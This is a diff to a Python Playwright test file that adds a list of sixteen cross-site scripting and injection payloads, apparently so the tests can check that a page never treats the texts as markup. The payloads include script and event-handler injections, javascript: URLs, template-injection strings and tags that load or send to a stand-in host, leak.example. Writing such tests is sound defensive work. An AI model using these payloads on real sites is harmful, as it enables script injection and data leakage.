@@ -12,6 +12,27 @@ from collections.abc import Iterator
 import pytest
 from playwright.sync_api import Browser, Page, sync_playwright
 
+CALL = "globalThis.ran=1"
+VECTORS = (
+    f"<script>{CALL}</script>",
+    f"</script><script>{CALL}</script>",
+    f"<img src=x onerror={CALL}>",
+    f"<svg onload={CALL}><a href='javascript:{CALL}'>",
+    '"><iframe srcdoc="<script>parent.ran=1</script>">',
+    f"' autofocus onfocus={CALL} x='",
+    f"javascript:{CALL}",
+    f"<!--</script><script>{CALL}//-->",
+    "<meta http-equiv=refresh content='0;url=https://leak.example/'>",
+    "<link rel=stylesheet href=https://leak.example/x.css>",
+    "<style>@import 'https://leak.example/y.css';body{background:url(https://leak.example/z)}</style>",
+    "<base href=https://leak.example/><form action=https://leak.example/><input autofocus>",
+    f"{{{{constructor.constructor('{CALL}')()}}}}${{{CALL}}}",
+    "\u2028\u2029\u202e\u0000\x1b[2J]]>&lt;script&gt;",
+    f"<template><script>{CALL}</script></template><details open ontoggle={CALL}>",
+    f"<math><mtext></p><style><!--</style><img src=x onerror={CALL}>",
+)
+"""Texts that would run, load or send something if a page took them for markup."""
+
 
 @pytest.fixture(scope="module")
 def browser() -> Iterator[Browser]:
